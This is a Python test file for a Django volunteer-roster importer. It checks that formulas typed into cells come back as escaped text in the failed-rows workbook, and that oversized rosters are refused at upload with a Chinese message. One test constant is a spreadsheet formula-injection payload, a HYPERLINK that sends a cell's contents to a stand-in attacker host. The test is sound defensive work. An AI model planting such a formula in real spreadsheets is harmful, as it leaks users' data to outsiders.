"""The roster's failed-rows workbook writes typed text as text, never as a live formula; a roster too large for
the preview to carry back is refused at upload in Chinese, not with a 413 at the confirmation."""

import base64
import io

from openpyxl import Workbook, load_workbook

from tests.admin.conftest import page
from tests.admin.test_roster_import import HEADER, good_rows, upload
from volunteers import roster_import
from volunteers.models import Volunteer

FORMULA = '=HYPERLINK("http://evil.example/?"&B2,"点我")'


def roster_with_text_cells(rows: list[list]) -> bytes:
    """A roster whose cells are all typed text, as a person types ``=...`` into a text-formatted cell."""
    book = Workbook()
    sheet = book.active
    for row in [HEADER, *rows]:
        sheet.append(row)
    for line in sheet.iter_rows(min_row=2):
        for cell in line:
            if isinstance(cell.value, str):
                cell.data_type = "s"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def test_a_formula_typed_as_a_name_comes_back_as_text(client, station_manager, tree):
    client.force_login(station_manager)
    row = good_rows(1, tree["S1"].name)[0]
    row[0] = FORMULA
    row[2] = "+86 13660000001"
    content = roster_with_text_cells([row])
    response = client.post(
        "/admin/volunteers/volunteer/import/failed-rows/",
        {"encoded": base64.b64encode(content).decode(), "consent": "on"},
    )
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    name = sheet["A2"]
    assert name.data_type == "s" and name.value == "'" + FORMULA
    # Fixed and sent again, the sheet reads as it was typed: the apostrophe is the file's, not the person's.
    rows = roster_import.read_rows(response.content)
    assert rows[0].values["real_name"] == FORMULA and rows[0].values["phone"] == "+86 13660000001"


def test_a_roster_too_large_for_the_preview_is_refused_at_upload(client, station_manager, tree, settings):
    client.force_login(station_manager)
    content = roster_with_text_cells(good_rows(30, tree["S1"].name))
    settings.MAX_REQUEST_BODY_BYTES = roster_import.carried_size(content) - 1
    html = page(upload(client, content))
    assert "文件过大" in html and 'name="encoded"' not in html
    assert not Volunteer.objects.exists()
    settings.MAX_REQUEST_BODY_BYTES = roster_import.carried_size(content)
    assert "文件过大" not in page(upload(client, content))
